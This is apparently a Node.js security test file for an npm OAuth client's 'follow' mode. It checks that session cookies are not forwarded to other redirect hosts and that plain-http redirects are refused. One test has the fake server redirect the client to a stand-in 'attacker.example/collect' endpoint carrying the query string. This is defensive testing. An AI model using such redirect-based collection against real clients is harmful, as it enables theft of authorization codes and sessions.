// Attacks on follow mode (Node: the authorization server approves without a user, the client
// follows its redirects like a browser) of the built npm package. Build first: `bash pkg/build.sh`.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { test } from 'node:test';

import { McpOAuth } from '../../../pkg/node.js';
import { REDIRECT, recordingFetch, startFake } from './fake.mjs';

test("host A's cookie is not sent to host B", async (t) => {
  // Host B (another host on the redirect chain: an upstream identity provider, or an attacker's
  // page the authorization server was tricked into redirecting to) records the cookies it gets.
  const cookiesAtB = [];
  const b = createServer((req, res) => {
    cookiesAtB.push(req.headers.cookie ?? null);
    const url = new URL(req.url, 'http://localhost');
    const back = new URL(REDIRECT);
    back.searchParams.set('code', 'code-b');
    back.searchParams.set('state', url.searchParams.get('state'));
    back.searchParams.set('iss', url.searchParams.get('iss'));
    res.writeHead(302, { location: back.href });
    res.end();
  });
  b.listen(0);
  await once(b, 'listening');
  t.after(() => new Promise((r) => { b.closeAllConnections(); b.close(r); }));
  const hostB = `http://localhost:${b.address().port}`;
  // Host A (127.0.0.1, the authorization server) sets its session cookie, then sends the
  // client on to host B.
  const fake = await startFake({
    '/authorize': (req, res, url) => {
      const next = new URL(`${hostB}/continue`);
      next.searchParams.set('state', url.searchParams.get('state'));
      next.searchParams.set('iss', fake.base);
      res.writeHead(302, { location: next.href, 'set-cookie': 'as_session=secret-session-of-a; Path=/; HttpOnly' });
      res.end();
    },
  });
  t.after(() => fake.close());

  const auth = await McpOAuth.create({ serverUrl: `${fake.base}/mcp`, redirectUri: REDIRECT, clientId: 'attack' });
  await auth.authorize({ mode: 'follow' });
  assert.equal(auth.status().state, 'authorized');
  assert.deepEqual(cookiesAtB, [null], `host B received: ${cookiesAtB}`);
});

test('a cookie is sent back to the host that set it', async (t) => {
  let seen = null;
  const fake = await startFake({
    '/authorize': (req, res, url) => {
      const next = new URL(`${fake.base}/consent`);
      next.search = url.search;
      res.writeHead(302, { location: next.href, 'set-cookie': 'as_session=s1; Path=/' });
      res.end();
    },
    '/consent': (req, res, url) => {
      seen = req.headers.cookie ?? null;
      const back = new URL(url.searchParams.get('redirect_uri'));
      back.searchParams.set('code', 'code-1');
      back.searchParams.set('state', url.searchParams.get('state'));
      back.searchParams.set('iss', fake.base);
      res.writeHead(302, { location: back.href });
      res.end();
    },
  });
  t.after(() => fake.close());
  const auth = await McpOAuth.create({ serverUrl: `${fake.base}/mcp`, redirectUri: REDIRECT, clientId: 'attack' });
  await auth.authorize({ mode: 'follow' });
  assert.equal(seen, 'as_session=s1');
});

test('follow mode refuses http:// to a host that is not loopback', async (t) => {
  const rec = recordingFetch();
  const fetchFn = (input, init) => {
    // Never reach the network for the attacker's host: record the attempt and fail it.
    if (String(input).includes('attacker.example')) {
      rec.calls.push({ url: String(input) });
      return Promise.reject(new TypeError('fetch failed'));
    }
    return rec.fn(input, init);
  };
  const fake = await startFake({
    '/authorize': (req, res, url) => {
      res.writeHead(302, { location: `http://attacker.example/collect${url.search}` });
      res.end();
    },
  });
  t.after(() => fake.close());
  const auth = await McpOAuth.create({ serverUrl: `${fake.base}/mcp`, redirectUri: REDIRECT, clientId: 'attack', fetch: fetchFn });
  await assert.rejects(auth.authorize({ mode: 'follow' }), (e) => {
    assert.equal(e.code, 'follow_failed');
    assert.match(e.message, /https/, e.message);
    return true;
  });
  const leaked = rec.calls.filter((c) => c.url.includes('attacker.example'));
  assert.deepEqual(leaked, [], 'no request over plain http to a non-loopback host');
});
